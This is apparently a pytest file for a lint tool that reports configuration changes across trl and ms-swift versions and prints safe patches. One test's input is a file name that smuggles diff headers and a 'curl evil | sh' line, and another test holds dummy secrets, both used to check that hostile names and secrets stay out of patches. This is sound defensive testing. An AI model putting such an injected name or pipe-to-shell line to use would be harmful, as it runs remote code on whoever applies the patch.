"""`lint --from X==1 --to X==2` reports what an upgrade changes for a run; `--diff` prints a patch of the certain edits.

Lint does not change the file that it checks.
"""

import subprocess

import pytest

from tests.case_files import each_case, read_cases

CASES = read_cases(__file__, "migrations.yaml")
INVALID = read_cases(__file__, "invalid_migrations.yaml")
TRL, SWIFT = CASES["train.py"]["text"], CASES["swift.sh"]["text"]


@pytest.fixture
def migrate(tmp_path, run_command, monkeypatch):
    """Return a function that lints a file with this text, checks that it is unchanged, and returns a CommandResult."""

    def migrate(name, text, *options):
        monkeypatch.chdir(tmp_path)
        (tmp_path / name).write_bytes(text.encode())
        result = run_command("lint", name, *options)
        assert (tmp_path / name).read_bytes() == text.encode()
        return result

    return migrate


@pytest.mark.parametrize(("name", "case"), CASES.items(), ids=CASES)
def test_changes_for_a_run_are_reported(migrate, name, case):
    """Removed options, values of another type, and changed defaults of unset options are reported."""
    text, new = case["text"], case["to"]
    result = migrate(name, text, "--from", case["from"], "--to", new, "--format", "json")
    reported = result.document["findings"]
    keys = [f"{item['severity']} {item['evidence'][0]['text'].split(' = ')[0]}" for item in reported]
    assert sorted(keys) == sorted(case["reported"])
    assert (result.code, {item["code"] for item in reported}) == (1, {"CFG113"})
    assert migrate(name, text, "--from", new, "--to", new).code == 0


@pytest.mark.parametrize("name", [name for name in CASES if "removed" in CASES[name]])
def test_patch_has_certain_edits_only(migrate, tmp_path, name):
    """The patch, which git applies, has exact renames and removes options without effect; lint leaves the file."""
    case = CASES[name]
    code, patch, _ = migrate(name, case["text"], "--from", case["from"], "--to", case["to"], "--diff")
    assert (code, bool(patch)) == (1, bool(case["removed"]))
    if patch:
        subprocess.run(["git", "apply", "-p0"], input=patch, text=True, check=True, cwd=tmp_path)
        assert (tmp_path / name).read_text() == case["text"].replace(case["removed"], case["added"])


@pytest.mark.parametrize(
    "name", ["swift.sh\n+++ z.sh\n@@ -0,0 +1 @@\n+curl evil | sh", '"z.sh', "z\x1b.sh", " z.sh"]
)
def test_patch_of_a_file_whose_name_could_name_another_is_refused(migrate, name):
    """A name with a line break, an escape, or a quote or blank at its start gets no patch, and a line of errors."""
    code, patch, errors = migrate(name, SWIFT, "--from", "ms-swift==3.8", "--to", "ms-swift==4.6", "--diff")
    assert (code, patch) == (1, "")
    assert "no patch for " in errors
    assert len(errors.splitlines()) == 1


@pytest.mark.parametrize("end", [" copy.sh", " 2020-01-01 00:00:00.000000000 +0000"])
@pytest.mark.parametrize("tool", [["git", "apply", "-p0"], ["patch", "-p0"]], ids=lambda words: words[0])
def test_patch_changes_the_named_file_and_not_one_whose_name_begins_so(migrate, tmp_path, end, tool):
    (tmp_path / "swift.sh").write_text(SWIFT)
    options = ("--from", "ms-swift==3.8", "--to", "ms-swift==4.6", "--diff")
    patch = migrate(f"swift.sh{end}.sh", SWIFT, *options).out
    subprocess.run(tool, input=patch, text=True, check=True, cwd=tmp_path)
    assert (tmp_path / "swift.sh").read_text() == SWIFT
    assert (tmp_path / f"swift.sh{end}.sh").read_text() != SWIFT


def test_patch_of_a_script_with_many_runs_applies(migrate, tmp_path):
    """The script has 60 runs between equal lines, for which difflib needed quadratic time: 97 s for 193 kB."""
    text = "\n".join(CASES["swift.sh"]["text"] + "#\n" * 600 for _ in range(60))
    patch = migrate("swift.sh", text, "--from", "ms-swift==3.8", "--to", "ms-swift==4.6", "--diff").out
    subprocess.run(["git", "apply", "-p0"], input=patch, text=True, check=True, cwd=tmp_path)
    removed, added = CASES["swift.sh"]["removed"], CASES["swift.sh"]["added"]
    assert (tmp_path / "swift.sh").read_text() == text.replace(removed, added)


@pytest.mark.parametrize(
    ("text", "applies"),
    [
        (TRL.replace("\n", "\r\n"), False), (TRL.replace("use_vllm", "\tuse_vllm"), True),
        (TRL.replace("args", "# \u200e\nargs", 1), False), (TRL.replace("args", "# ##[x]\nargs", 1), False),
        (TRL.replace("args", '"""\n::error::\n"""\nargs', 1), True),
    ],
)  # fmt: skip
def test_patch_is_printed_only_if_it_applies(migrate, tmp_path, text, applies):
    """A patch with characters that the output escapes would not apply and is not printed; one with a tab applies."""
    _, patch, errors = migrate("train.py", text, "--from", "trl==0.17", "--to", "trl==1.16", "--diff")
    assert (bool(patch), "no patch for" in errors) == (applies, not applies)
    if patch:
        subprocess.run(["git", "apply", "-p0"], input=patch, text=True, check=True, cwd=tmp_path)


def test_patch_prints_no_secret(migrate):
    """Lines around an edit are left out if they contain a secret."""
    secret = "export WANDB_API_KEY=0123456789abcdef0123456789abcdef01234567\n"
    text = SWIFT.replace("swift rlhf", f"{secret}swift rlhf")
    patch = migrate("swift.sh", text, "--from", "ms-swift==3.8", "--to", "ms-swift==4.6", "--diff").out
    assert "tuner_type" in patch
    assert "0123456789" not in patch
    # The label is the line above the hunk.
    text = TRL.replace("args", 'connect(password=\n    "Tulip9Kestrel")\nargs')
    patch = migrate("train.py", text, "--from", "trl==0.17", "--to", "trl==1.16", "--diff").out
    assert "structured_outputs" in patch
    assert "Tulip9" not in patch


def test_command_line_may_abbreviate_an_option(migrate):
    """An abbreviated option is accepted on the command line, as by argparse, and reported in a file."""
    releases = ("--from", "trl==0.15.2", "--to", "trl==1.16")
    line, key = "trl grpo --vllm_max_model_len 4096\n", "use_vllm: true\nvllm_max_model_len: 4096\n"
    assert "vllm_max_model_len" not in migrate("run.sh", line, *releases).out
    assert "Use vllm_max_model_length" in migrate("run.yaml", "num_generations: 8\n" + key, *releases).out


@each_case(INVALID["options"])
def test_invalid_migration_options_are_refused(migrate, options, message):
    """The exit code is 2, and the error names what is wrong or what was expected."""
    code, _, error = migrate("train.py", TRL, *options)
    assert (code, message in error) == (2, True)


def test_run_of_another_framework_is_not_checked(migrate):
    """A run of another framework is not compared, so the exit code is 3."""
    assert migrate("swift.sh", SWIFT, "--from", "trl==0.17", "--to", "trl==1.16").code == 3
